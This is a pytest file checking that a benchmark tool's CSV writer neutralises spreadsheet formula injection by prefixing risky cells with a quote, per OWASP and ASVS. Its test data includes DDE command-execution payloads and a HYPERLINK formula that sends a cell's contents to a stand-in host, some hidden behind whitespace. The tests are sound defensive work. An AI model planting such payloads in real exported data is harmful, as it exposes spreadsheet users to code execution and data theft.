"""CSV out (bench.csvout, the one CSV writer): no cell a spreadsheet would run.

The cases are OWASP's "CSV Injection" list (https://owasp.org/www-community/attacks/
CSV_Injection: cells starting with =, +, -, @, tab, carriage return or line feed) and
ASVS 5.0 V1.2.10 (which adds NUL), each also behind leading spaces, which spreadsheets
skip before deciding a cell is a formula. The remedy is OWASP's: prefix the cell with a
single quote, so the spreadsheet shows the text as written.
"""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal

import numpy as np
import pytest

from bench.csvout import neutralise, rows_to_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-5+cmd|' /C calc'!A0",
    "-5",  # text that merely looks like a number is still text (see test below)
    "@SUM(A1:A9)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "  -1+1",
    " @SUM(A1)",
    "\u00a0=1+1",  # a no-break space is a space to a spreadsheet too
    " \t=1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    written = neutralise(cell)
    assert written == "'" + cell
    # And the whole writer: the cell reads back as the quoted text, in one cell.
    read = list(csv.reader(io.StringIO("".join(rows_to_csv(["a", "b"], [[cell, 1]])))))
    assert read[1] == ["'" + cell, "1"]


@pytest.mark.parametrize(
    "cell", ["plain text", "1-2 people", "a=b", "email@example.com", "2022-23", "", "x\n=1"]
)
def test_ordinary_text_is_unchanged(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (-5, "-5"),
        (-5.0, "-5"),
        (-0.25, "-0.25"),
        (12.5, "12.5"),
        (Decimal("-3.50"), "-3.50"),
        (np.float64(-2.5), "-2.5"),
        (np.int64(-7), "-7"),
    ],
)
def test_negative_numbers_stay_numbers(number, written):
    # A value held as a number can only print as digits with a sign and a point: it cannot
    # carry a formula, and a spreadsheet must read it as the number it is. Text is judged
    # by its first character even when it looks like a number ("-5" above): the writer
    # cannot tell a figure from "-5+cmd|..." by looking, only by type, and every figure
    # bench writes is held as a number.
    assert neutralise(number) == written


def test_numbers_that_are_not_finite_are_text():
    # DESIGN.md: NaN and infinities are not numbers; "-inf" would start like a formula.
    assert neutralise(-math.inf) == "'-inf"
    assert neutralise(math.nan) == "nan"


def test_booleans_and_missing_values():
    assert neutralise(True) == "true" and neutralise(None) == ""
